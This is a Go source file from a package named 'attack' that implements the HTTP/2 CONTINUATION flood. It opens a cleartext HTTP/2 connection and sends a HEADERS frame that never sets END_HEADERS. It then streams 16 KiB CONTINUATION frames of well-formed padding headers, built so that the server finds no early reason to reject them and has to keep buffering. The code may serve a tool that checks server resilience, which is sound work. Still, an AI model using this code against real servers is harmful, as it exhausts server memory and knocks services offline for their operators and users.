package attack

import (
	"bytes"
	"io"
	"strconv"
)

// FrameContinuation is HTTP/2's CONTINUATION frame type (RFC 9113 §6.10).
const FrameContinuation = 0x9

// PaddingHeaders is a valid HPACK block of about n bytes: literal header
// fields without indexing, each a new name ("x-pad-N") and a value of up
// to 100 bytes, none Huffman-coded. A server that decodes it finds only
// well-formed fields, so it has no early reason to refuse it.
func PaddingHeaders(n int) []byte {
	var b bytes.Buffer
	for i := 0; b.Len() < n; i++ {
		name := []byte("x-pad-" + strconv.Itoa(i))
		b.WriteByte(0x00) // literal without indexing, new name
		b.WriteByte(byte(len(name)))
		b.Write(name)
		v := min(100, max(1, n-b.Len()-1))
		b.WriteByte(byte(v))
		b.Write(bytes.Repeat([]byte{'a'}, v))
	}
	return b.Bytes()
}

// UnfinishedHeaders writes to w what opens a cleartext HTTP/2 connection
// and starts a request it never finishes: the preface, an empty SETTINGS,
// a HEADERS frame on stream 1 carrying the start of a Check request's
// header block (CheckHeaders) without END_HEADERS, then CONTINUATION
// frames of up to 16 KiB, none with END_HEADERS, carrying about
// blockBytes of valid padding headers (PaddingHeaders). The server can
// never know the request's end; what it keeps of such a connection, and
// for how long, is up to it. It stops at the first write error (the
// server closing) and returns it.
func UnfinishedHeaders(w io.Writer, blockBytes int) error {
	if err := StartH2C(w); err != nil {
		return err
	}
	if err := WriteFrame(w, FrameHeaders, 0, 1, CheckHeaders()); err != nil {
		return err
	}
	pad := PaddingHeaders(blockBytes)
	for len(pad) > 0 {
		k := min(len(pad), 1<<14)
		if err := WriteFrame(w, FrameContinuation, 0, 1, pad[:k]); err != nil {
			return err
		}
		pad = pad[k:]
	}
	return nil
}
